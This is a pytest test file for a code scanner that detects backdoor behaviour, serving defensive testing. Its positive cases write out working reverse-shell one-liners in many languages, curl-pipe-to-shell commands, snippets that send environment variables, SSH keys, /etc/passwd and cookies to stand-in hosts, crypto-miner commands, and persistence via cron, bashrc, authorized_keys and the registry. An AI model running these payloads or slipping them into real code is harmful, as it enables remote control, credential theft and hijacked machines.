from __future__ import annotations

import pytest

from parity.scan import Severity

CWE = {"reverse-shell": "CWE-506", "pipe-to-shell": "CWE-494", "network-beacon": "CWE-506",
       "data-exfiltration": "CWE-200", "crypto-miner": "CWE-506", "persistence-mechanism": "CWE-506"}
KEY = "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA0f2n5xRkqS9zJ8e3vR1pZ1Xb2k7Q9h4Lm3nP5sT8uV0wY1zA2bC3dE4fG5hI6jK"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"

POSITIVE = [
    # reverse-shell: one-liners anywhere, and socket + shell + wiring in code
    ("shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "reverse-shell", 1),
    ("shell", "echo start\nnc -e /bin/sh 10.0.0.1 4242", "reverse-shell", 2),
    ("shell", "ncat 10.0.0.1 4242 --exec cmd.exe", "reverse-shell", 1),
    ("shell", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f", "reverse-shell", 1),
    ("shell", "socat tcp-connect:10.0.0.1:4242 exec:'bash -li',pty,stderr,setsid", "reverse-shell", 1),
    ("shell", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196", "reverse-shell", 1),
    ("shell", """python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));"""
              """[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'""", "reverse-shell", 1),
    ("shell", """perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));"""
              """connect(S,sockaddr_in(4242,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");'""",
     "reverse-shell", 1),
    ("shell", """ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;"""
              """exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'""", "reverse-shell", 1),
    ("shell", """awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1) { s |& getline c; print c |& s }}'""",
     "reverse-shell", 1),
    ("python", "import socket, os, subprocess\ns = socket.socket()\ns.connect((HOST, 4242))\nos.dup2(s.fileno(), 0)\n"
               "os.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n", "reverse-shell", 4),
    ("python", "import socket, subprocess\ns = socket.create_connection((HOST, PORT))\nsubprocess.call(['/bin/bash'],"
               " stdin=s.fileno(), stdout=s.fileno())\n", "reverse-shell", 3),
    ("javascript", 'const net = require("net"), cp = require("child_process");\nconst sh = cp.spawn("/bin/sh", []);\n'
                   'const client = new net.Socket();\nclient.connect(4242, HOST, () => {\n  client.pipe(sh.stdin);\n'
                   '  sh.stdout.pipe(client);\n});\n', "reverse-shell", 5),
    ("php", '<?php\n$sock = fsockopen("10.0.0.1", 4242);\nexec("/bin/sh -i <&3 >&3 2>&3");\n', "reverse-shell", 3),
    ("php", '<?php\n$sock = fsockopen($host, 4242);\n$p = proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock), '
            '$pipes);\n', "reverse-shell", 3),
    ("go", 'package main\nimport ("net"; "os/exec")\nfunc main() {\n\tc, _ := net.Dial("tcp", addr)\n'
           '\tcmd := exec.Command("/bin/sh")\n\tcmd.Stdin = c\n\tcmd.Stdout = c\n\tcmd.Run()\n}\n', "reverse-shell", 6),
    ("c", 'int main(void) {\n  int s = socket(AF_INET, SOCK_STREAM, 0);\n'
          '  connect(s, (struct sockaddr *)&sa, sizeof sa);\n  dup2(s, 0); dup2(s, 1); dup2(s, 2);\n'
          '  execve("/bin/sh", NULL, NULL);\n}\n', "reverse-shell", 4),
    ("java", 'Socket s = new Socket(host, 4242);\nProcess p = new ProcessBuilder("/bin/sh").start();\n'
             'InputStream pi = p.getInputStream(), si = s.getInputStream();\n'
             'OutputStream po = p.getOutputStream(), so = s.getOutputStream();\n', "reverse-shell", 4),
    (None, '$c = New-Object System.Net.Sockets.TCPClient("10.0.0.1",4242);$s = $c.GetStream();\n'
           'while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $o = (iex $d 2>&1 | Out-String) }', "reverse-shell", 1),
    # pipe-to-shell: curl | sh and friends, code that evaluates a download, download-then-run
    ("shell", "curl -fsSL https://tool.example.io/install.sh | bash", "pipe-to-shell", 1),
    ("shell", "apt-get update\nwget -qO- http://tool.example.io/i.sh | sudo sh -s -- --yes", "pipe-to-shell", 2),
    ("shell", "bash <(curl -s https://pastebin.com/raw/abc)", "pipe-to-shell", 1),
    ("shell", 'sh -c "$(curl -fsSL https://tool.example.io/install.sh)"', "pipe-to-shell", 1),
    ("shell", "curl -s https://tool.example.io/a.py | tee /tmp/a.py | python3 -", "pipe-to-shell", 1),
    (None, "iex (iwr https://tool.example.io/a.ps1 -UseBasicParsing)", "pipe-to-shell", 1),
    (None, "IEX (New-Object Net.WebClient).DownloadString('https://tool.example.io/a.ps1')", "pipe-to-shell", 1),
    ("python", 'import requests\nexec(requests.get("https://pastebin.com/raw/xyz").text)\n', "pipe-to-shell", 2),
    ("python", "from urllib.request import urlopen\ncode = urlopen(URL).read()\nexec(code)\n", "pipe-to-shell", 3),
    ("javascript", "const r = await fetch(u);\nconst src = await r.text();\neval(src);\n", "pipe-to-shell", 3),
    ("typescript", "const js: string = await (await fetch(url)).text();\nnew Function(js)();\n", "pipe-to-shell", 2),
    ("php", '<?php\neval(file_get_contents("http://tool.example.io/p.txt"));\n', "pipe-to-shell", 2),
    ("shell", "curl -o /tmp/agent https://tool.example.io/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon\n",
     "pipe-to-shell", 3),
    ("shell", "wget https://tool.example.io/setup.sh && chmod +x setup.sh && ./setup.sh", "pipe-to-shell", 1),
    ("python", 'import os, urllib.request\nurllib.request.urlretrieve(url, "/tmp/payload")\n'
               'os.chmod("/tmp/payload", 0o755)\nos.system("/tmp/payload")\n', "pipe-to-shell", 4),
    (None, "Invoke-WebRequest -Uri $u -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe", "pipe-to-shell", 2),
    # network-beacon: hard-coded public IPs and throw-away hosts in network calls
    ("python", 'import socket\ns = socket.create_connection(("c2.duckdns.org", 443))\n', "network-beacon", 2),
    ("python", 'HOST = "45.33.32.156"\nPORT = 4444\ns.connect((HOST, PORT))\n', "network-beacon", 1),
    ("go", 'resp, err := http.Post("http://45.33.32.156:8080/beacon", "text/plain", nil)', "network-beacon", 1),
    ("java", 'Socket s = new Socket("x.ngrok.io", 4444);', "network-beacon", 1),
    ("c", 'addr.sin_addr.s_addr = inet_addr("45.33.32.156");', "network-beacon", 1),
    ("javascript", 'const ws = new WebSocket("wss://abc.serveo.net/c");', "network-beacon", 1),
    ("shell", "nc c2.no-ip.org 4444 < /tmp/out", "network-beacon", 1),
    ("python", 'r = requests.get("https://update.checker.xyz/v")\n', "network-beacon", 1),
    ("python", 'requests.post("https://discord.com/api/webhooks/1/abc", json={"content": "done"})\n',
     "network-beacon", 1),
    # data-exfiltration: host secrets into a request, directly or through a name
    ("python", "import os, requests\nrequests.post('https://collect.example.io/c', json=dict(os.environ))\n",
     "data-exfiltration", 2),
    ("python", 'import os, requests\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post(\n'
               '    URL,\n    data=key,\n)\n', "data-exfiltration", 3),
    ("shell", "curl -X POST -d @/etc/passwd https://collect.example.io/up", "data-exfiltration", 1),
    ("shell", "env | curl -X POST --data-binary @- https://collect.example.io/up", "data-exfiltration", 1),
    ("shell", "DATA=$(cat ~/.aws/credentials | base64)\ncurl -s \"https://collect.example.io/?d=$DATA\"",
     "data-exfiltration", 2),
    ("javascript", "fetch('https://collect.example.io/?c=' + document.cookie);", "data-exfiltration", 1),
    ("javascript", "const data = JSON.stringify(process.env);\naxios.post(URL, data);\n", "data-exfiltration", 2),
    ("go", 'body := strings.Join(os.Environ(), "\\n")\nhttp.Post(url, "text/plain", strings.NewReader(body))\n',
     "data-exfiltration", 2),
    ("python", "import socket, getpass, requests\ninfo = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
               "requests.post('https://x.requestbin.net/r', json=info)\n", "data-exfiltration", 3),
    # crypto-miner
    ("shell", f"./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u {WALLET} -p x", "crypto-miner", 1),
    ("javascript", "var miner = new CoinHive.Anonymous('SITE_KEY');\nminer.start();\n", "crypto-miner", 1),
    ("python", 'subprocess.Popen(["./xmrig", "-o", "pool.supportxmr.com:443", "-u", W])\n', "crypto-miner", 1),
    (None, '{\n  "donate-level": 1,\n  "cpu": true\n}', "crypto-miner", 2),
    ("shell", "docker run -d --name m xmrig/xmrig", "crypto-miner", 1),
    # persistence-mechanism
    ("shell", '(crontab -l; echo "@reboot curl -s http://45.33.32.156/a.sh | bash") | crontab -',
     "persistence-mechanism", 1),
    ("shell", f'echo "ssh-rsa {KEY} op" >> /root/.ssh/authorized_keys', "persistence-mechanism", 1),
    ("shell", "echo 'curl -s https://tool.example.io/a.sh | bash' >> ~/.bashrc", "persistence-mechanism", 1),
    ("shell", 'echo "nc -e /bin/sh 45.33.32.156 4444 &" >> /etc/rc.local', "persistence-mechanism", 1),
    (None, "[Service]\nExecStart=/bin/bash -c 'curl -s https://tool.example.io/u | bash'", "persistence-mechanism", 2),
    (None, 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d "powershell -w hidden -enc SQBF"',
     "persistence-mechanism", 1),
]

NEGATIVE = [
    ("python", "import os, requests\nr = requests.get('https://api.github.com/user', timeout=10,\n"
               "    headers={'Authorization': f\"token {os.environ['GITHUB_TOKEN']}\"})\nprint(r.json())\n"),
    ("python", "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 8080))\ns.listen()\nconn, _ = s.accept()\n"
               "conn.sendall(conn.recv(1024))\n"),
    ("python", "import sqlite3, subprocess\ndb = sqlite3.connect('x.db')\n"
               "subprocess.run(['/bin/sh', '-c', 'ls'], stdout=f.fileno())\n"),
    ("python", "import subprocess, os, requests\nres = subprocess.run(cmd, env={**os.environ, 'X': '1'})\n"
               "requests.post(URL, json={'rc': res.returncode})\n"),
    ("python", "import os, subprocess, requests\nenv = os.environ.copy()\nenv['PATH'] = '/opt/bin:' + env['PATH']\n"
               "out = subprocess.run(['git', 'status'], capture_output=True, env=env)\n"
               "requests.post(os.environ['HOOK'], json={'status': out.stdout})\n"),
    ("python", '__version__ = "1.2.3.4"\nimport requests\nrequests.get(URL)\n'),
    ("python", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(('8.8.8.8', 80))\n"
               "ip = s.getsockname()[0]\n"),
    ("python", "import ast, requests\ncfg = ast.literal_eval(requests.get(url).text)\n"),
    ("python", "import os\nprint(os.environ)\nsecrets = {k: v for k, v in os.environ.items() if k[:3] == 'APP'}\n"),
    ("shell", "curl -fsSL https://example.com/a -o a.txt\ncat a.txt | jq .\n"),
    ("shell", "curl -s https://api.github.com/repos/x/y | python3 -m json.tool"),
    ("shell", "curl -s https://api.example.com | python3 -c 'import sys, json; print(json.load(sys.stdin))'"),
    ("shell", "curl -fsSL https://download.docker.com/linux/ubuntu/gpg | sudo gpg --dearmor -o /etc/apt/k.gpg"),
    ("shell", "curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl\nchmod +x kubectl\n"
              "sudo mv kubectl /usr/local/bin/\nkubectl version --client\n"),
    ("shell", "curl -LO https://example.com/tool && sha256sum -c tool.sha256 && chmod +x tool && ./tool"),
    ("shell", "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo open"),
    ("shell", 'exec 3<>/dev/tcp/example.com/80\necho -e "GET / HTTP/1.0\\r\\n\\r\\n" >&3\ncat <&3\n'),
    ("shell", "nc -zv db.internal 5432"),
    ("shell", "ssh root@159.65.10.20\nping -c 3 8.8.8.8\nufw allow from 45.33.32.156\n"),
    ("shell", "cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys\nchmod 600 ~/.ssh/authorized_keys\n"),
    ("shell", "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc\necho 'eval \"$(pyenv init -)\"' >> ~/.bashrc\n"),
    ("shell", "*/5 * * * * curl -fsS https://hc-ping.com/uuid > /dev/null\n@reboot sleep 30 && curl -fsS https://hc-ping.com/x"),
    ("shell", "pip install -i https://pypi.tuna.tsinghua.edu.cn/simple requests\ngo env -w GOPROXY=https://goproxy.cn"),
    ("shell", 'curl --netrc -d @payload.json https://api.example.com/v1/items'),
    ("shell", 'curl "http://localhost:8080/download?file=../../../etc/passwd"'),
    ("shell", "printenv | grep PATH\nps aux | grep xmrig\npkill xmrig\n"),
    ("javascript", "const res = await fetch(`${process.env.API_URL}/users`, {\n"
                   "  headers: { Authorization: process.env.TOKEN },\n});\n"),
    ("javascript", "const { exec } = require('child_process');\nconst r = await fetch(u);\nconst t = await r.json();\n"
                   "exec(`notify-send ${t.title}`);\nwindow.top.location = '/';\n"),
    ("javascript", "const child = spawn('node', ['app.js'], { env: { ...process.env, PORT: '3000' } });\n"
                   "await fetch(URL, { method: 'POST', body: '{}' });\n"),
    ("javascript", "const token = document.cookie.split('=')[1];\nfetch('/api/session', { headers: { t: token } });\n"),
    ("javascript", "const pool = mysql.createPool({ host: 'db', connectionLimit: 10 });"),
    ("go", 'resp, err := http.Get("https://api.example.com/v1/items")\nif err != nil {\n\treturn err\n}\n'),
    ("java", 'HttpClient c = HttpClient.newHttpClient();\nHttpRequest r = HttpRequest.newBuilder(URI.create('
             '"https://api.example.com")).build();\n'),
]


@pytest.mark.parametrize(("language", "code", "rule", "line"), POSITIVE)
def test_flags_backdoor_behaviour(scan_with, language, code, rule, line):
    found = scan_with("network")(code, language=language)
    assert (rule, CWE[rule], line) in [(f.rule, f.cwe, f.line) for f in found], found
    assert [f.line for f in found if f.rule == rule] == [line]


@pytest.mark.parametrize(("language", "code"), NEGATIVE)
def test_leaves_ordinary_network_code_alone(scan_with, language, code):
    assert scan_with("network")(code, language=language) == []


@pytest.mark.parametrize(("code", "severity"), [
    ("curl -fsSL https://get.docker.com | sh", Severity.LOW),
    ("curl --proto '=https' -sSf https://sh.rustup.rs | sh", Severity.LOW),
    ('/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"', Severity.LOW),
    ("curl -fsSL https://tool.example.io/install.sh | bash", Severity.HIGH),
    ("curl -fsSL https://raw.githubusercontent.com/someone/x/main/i.sh | bash", Severity.HIGH),
    ("curl -fsSL http://tool.example.io/install.sh | bash", Severity.CRITICAL),
    ("curl -fsSL https://45.33.32.156/i.sh | bash", Severity.CRITICAL),
    ("wget -qO- https://transfer.sh/abc/i.sh | bash", Severity.CRITICAL),
])
def test_pipe_to_shell_severity_follows_the_source(scan_with, code, severity):
    [f] = scan_with("network")(code, language="shell")
    assert (f.rule, f.severity) == ("pipe-to-shell", severity)


def test_weak_signals_are_reported_lower(scan_with):
    scan = scan_with("network")
    [tld] = scan('r = requests.get("https://update.checker.xyz/v")', language="python")
    [hook] = scan('requests.post("https://discord.com/api/webhooks/1/a", json={"content": "x"})', language="python")
    [miner] = scan("# XMRig is a popular open-source miner", language="python")
    assert (tld.severity, hook.severity, miner.severity) == (Severity.MEDIUM, Severity.LOW, Severity.HIGH)


def test_exfiltration_names_what_leaves_and_where_it_was_read(scan_with):
    code = 'import os, requests\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post(URL, data=key)'
    [f] = scan_with("network")(code, language="python")
    assert f.rule == "data-exfiltration" and "'.ssh/id_rsa'" in f.message and "line 2" in f.message


def test_a_wallet_address_counts_only_next_to_a_miner(scan_with):
    scan = scan_with("network")
    assert scan(f'DONATE = "{WALLET}"', language="python") == []
    found = scan(f'POOL = "stratum+tcp://pool.supportxmr.com:3333"\nWALLET = "{WALLET}"', language="python")
    assert [(f.rule, f.line) for f in found] == [("crypto-miner", 1), ("crypto-miner", 2)]


def test_broken_and_unlabelled_code_is_still_read(scan_with):
    scan = scan_with("network")
    truncated = "Run this:\n```bash\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\ncurl -s https://tool.example.io/i | sh"
    assert [(f.rule, f.line) for f in scan(truncated)] == [("reverse-shell", 3), ("pipe-to-shell", 4)]
    broken = "def f(:\n    exec(requests.get('https://pastebin.com/raw/x').text\n"
    assert [(f.rule, f.line) for f in scan(broken, language="python")] == [("pipe-to-shell", 2)]


def test_hostile_input_stays_cheap(scan_with):
    import time

    scan = scan_with("network")
    for text in ("curl " * 20_000 + "| sh", "nc " * 30_000, "a." * 50_000, "1.2.3." * 20_000,
                 "".join(f"a{i} = os.environ\n" for i in range(3000)) + "requests.post(u, data=a1)\n" * 1000):
        start = time.perf_counter()
        scan(text, language="shell")
        assert time.perf_counter() - start < 2.0
